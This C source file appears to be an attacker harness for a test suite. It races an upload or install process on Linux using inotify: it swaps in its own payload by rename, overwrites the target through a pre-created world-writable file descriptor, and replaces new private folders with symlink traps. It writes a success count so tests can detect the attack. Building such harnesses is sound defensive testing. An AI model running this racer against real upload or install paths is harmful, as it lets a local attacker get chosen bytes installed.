/*
 * The local user who wants other bytes installed than those that were uploaded. It waits in the folder of the upload,
 * where it may write, and acts when inotify tells that somebody looks (or, `any`, that anything happens there).
 *
 *   racer rename|descriptor nowrite|any TARGET PAYLOAD TALLY
 *
 * rename      puts a file of its own in the upload's place
 * descriptor  made the upload's file itself, for all to write, or opened it, and writes through the descriptor it kept
 * nowrite     acts when a reader closes the upload: the moment between a check and the use of what was checked
 * any         acts at events of the folder, after a random pause of 1 us to 130 ms, and on folders made in it too
 *
 * TALLY gets the number of deeds, so that a test can tell an attack from its absence; it appears when the racer is ready.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *target, *name, *tally;
static char folder[PATH_MAX], spare[PATH_MAX + 32];
static char *payload;
static size_t payload_size;
static int kept = -1;
static ino_t own;
static long deeds;

static void die(const char *what) { perror(what); exit(1); }

static void count(void) {
  char text[32];
  int fd = open(tally, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) die(tally);
  int length = snprintf(text, sizeof text, "%ld\n", deeds++);
  if (write(fd, text, length) != length) die(tally);
  close(fd);
}

static void load(const char *path) {
  struct stat st;
  int fd = open(path, O_RDONLY);
  if (fd < 0 || fstat(fd, &st) < 0) die(path);
  payload_size = st.st_size;
  payload = malloc(payload_size);
  if (!payload || read(fd, payload, payload_size) != (ssize_t)payload_size) die(path);
  close(fd);
}

/* Lays a file ready whose rename is all that is left to do. */
static void prepare(void) {
  struct stat st;
  int fd = open(spare, O_WRONLY | O_CREAT | O_TRUNC, 0777);
  if (fd < 0 || write(fd, payload, payload_size) != (ssize_t)payload_size || fstat(fd, &st) < 0) die(spare);
  own = st.st_ino;
  close(fd);
}

static void exchange(void) {
  static ino_t last;
  struct stat st;
  if (lstat(target, &st) < 0) return;
  /* Numbers of inodes are used again at once; the payload's size is no upload's. */
  if (st.st_ino == last && (size_t)st.st_size == payload_size) return;
  if (rename(spare, target) < 0) return;
  last = own;
  prepare();
  count();
}

/* Makes the upload's file before the upload does, and keeps it open; or opens the one that is there. */
static void take_hold(void) {
  struct stat there, held;
  if (lstat(target, &there) == 0 && kept >= 0 && fstat(kept, &held) == 0 && held.st_ino == there.st_ino) return;
  int fd = open(target, O_RDWR | O_CREAT | O_EXCL, 0666);
  if (fd >= 0) fchmod(fd, 0666);
  else fd = open(target, O_RDWR | O_NOFOLLOW | O_NONBLOCK);
  if (fd < 0) return;
  if (kept >= 0) close(kept);
  kept = fd;
  count();
}

static void overwrite(void) {
  char head[64];
  if (kept < 0) return;
  /* Nothing was uploaded yet, or the deed is done. */
  ssize_t length = pread(kept, head, sizeof head, 0);
  if (length <= 0 || memcmp(head, payload, length) == 0) return;
  if (pwrite(kept, payload, payload_size, 0) < 0 || ftruncate(kept, payload_size) < 0) return;
  count();
}

/* Moves a private folder away, under the feet of whoever made it, and lays a trap in its place. */
static void steal(const char *made) {
  static int stolen;
  char from[PATH_MAX * 2], to[PATH_MAX * 2];
  snprintf(from, sizeof from, "%s/%s", folder, made);
  snprintf(to, sizeof to, "%s/stolen-%d", folder, stolen++);
  if (rename(from, to) < 0) return;
  if (rand() % 2 ? mkdir(from, 0777) : symlink("/tmp", from)) return;
  count();
}

/* What happened meanwhile is of no more interest: the next deed belongs to the next upload, not to the last. */
static void pause_and_forget(int watcher) {
  char events[16384];
  struct timespec pause = {0, 1000L << rand() % 18};
  nanosleep(&pause, NULL);
  while (read(watcher, events, sizeof events) > 0) continue;
}

int main(int argc, char **argv) {
  if (argc != 6) { fputs("usage: racer rename|descriptor nowrite|any TARGET PAYLOAD TALLY\n", stderr); return 2; }
  int by_descriptor = strcmp(argv[1], "descriptor") == 0, at_any = strcmp(argv[2], "any") == 0;
  target = argv[3];
  tally = argv[5];
  name = strrchr(target, '/') + 1;
  snprintf(folder, sizeof folder, "%.*s", (int)(name - target - 1), target);
  snprintf(spare, sizeof spare, "%s/spare-%d", folder, getpid());
  umask(0);
  srand(getpid());
  load(argv[4]);
  int watcher = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
  unsigned what = at_any ? IN_ALL_EVENTS : IN_CLOSE_NOWRITE | IN_DELETE | IN_MOVED_FROM;
  if (watcher < 0 || inotify_add_watch(watcher, folder, what) < 0) die(folder);
  if (by_descriptor) take_hold();
  else prepare();
  count();
  for (;;) {
    char events[16384] __attribute__((aligned(__alignof__(struct inotify_event))));
    ssize_t length = read(watcher, events, sizeof events);
    if (length < 0) {
      if (errno != EAGAIN && errno != EINTR) die("read");
      struct pollfd wait = {watcher, POLLIN, 0};
      poll(&wait, 1, -1);
      continue;
    }
    for (char *at = events; at < events + length;) {
      struct inotify_event *event = (struct inotify_event *)at;
      at += sizeof *event + event->len;
      int is_target = event->len > 0 && strcmp(event->name, name) == 0;
      int is_folder = (event->mask & (IN_CREATE | IN_ISDIR)) == (IN_CREATE | IN_ISDIR);
      if (at_any && is_folder && rand() % 4 == 0) steal(event->name);
      if (!is_target && !(at_any && is_folder)) continue;
      if (at_any) pause_and_forget(watcher);
      if (by_descriptor) {
        if (at_any || event->mask & (IN_DELETE | IN_MOVED_FROM)) take_hold();
        if (at_any || event->mask & IN_CLOSE_NOWRITE) overwrite();
      } else if (at_any || event->mask & IN_CLOSE_NOWRITE) exchange();
    }
  }
}
